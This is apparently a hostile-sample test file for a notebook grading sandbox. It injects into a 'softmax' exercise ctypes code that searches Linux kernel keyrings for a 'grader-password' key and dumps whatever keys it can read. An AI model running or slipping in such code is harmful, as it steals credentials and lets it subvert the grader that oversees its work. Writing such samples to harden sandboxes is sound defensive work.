"""Reads the keys that the kernel of the operating system keeps for the grader's session and user."""

from tests.hostile.attack_tools import LOOK, append

POINTS = {}

CODE = """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL, REQUEST_KEY, READ, SEARCH = 250, 249, 11, 10
for ring in range(-1, -9, -1):
    key = libc.syscall(KEYCTL, SEARCH, ring, b"user", b"grader-password", 0)
    key = key if key > 0 else libc.syscall(REQUEST_KEY, b"user", b"grader-password", None, ring)
    buffer = ctypes.create_string_buffer(1000)
    if key > 0 and libc.syscall(KEYCTL, READ, key, buffer, 1000) > 0:
        look(buffer.value.decode(errors="replace"), what="text")
    ids = (ctypes.c_int32 * 100)()
    count = libc.syscall(KEYCTL, READ, ring, ids, 400)
    for key in ids[: max(count, 0) // 4]:
        if libc.syscall(KEYCTL, READ, key, buffer, 1000) > 0:
            look(buffer.value.decode(errors="replace"), what="text")
"""


def make(nb):
    append(nb, "softmax", LOOK + CODE)
